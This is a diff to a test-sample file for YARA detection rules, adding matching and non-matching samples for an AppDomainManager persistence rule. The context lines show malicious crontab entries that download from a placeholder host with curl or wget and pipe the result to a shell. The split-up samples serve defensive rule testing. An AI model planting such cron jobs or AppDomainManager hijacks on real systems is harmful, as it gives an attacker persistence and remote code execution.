@@ -5,6 +5,7 @@ from __future__ import annotations
 from tests.examine.yara.samples.support import joined
 
 BAD: dict[str, list[bytes]] = {
+    "RG-PER-0016": [joined('<runtime><appDomainManag¦erAssembly value="a"/></runtime>')],
     "RG-PER-0001": [
         joined("*/5 * * * * root cu¦rl -s h¦t¦t¦p://x.i¦nvalid/a | bash\n"),
         joined("(crontab -l; echo '* * * * * wg¦e¦t -q¦O- x.i¦nvalid | sh') | crontab -\n"),
@@ -65,6 +66,7 @@ BAD: dict[str, list[bytes]] = {
 """Samples that a rule must find, by the rule's id."""
 
 BENIGN: dict[str, list[bytes]] = {
+    "RG-PER-0016": [b'<runtime><assemblyBinding xmlns="urn:schemas-microsoft-com:asm.v1"/></runtime>'],
     "RG-PER-0001": [
         joined("*/5 * * * * root cu¦rl -s h¦ttps://example.org/ping > /dev/null\n"),
         joined("crontab -l | grep backup\n"),
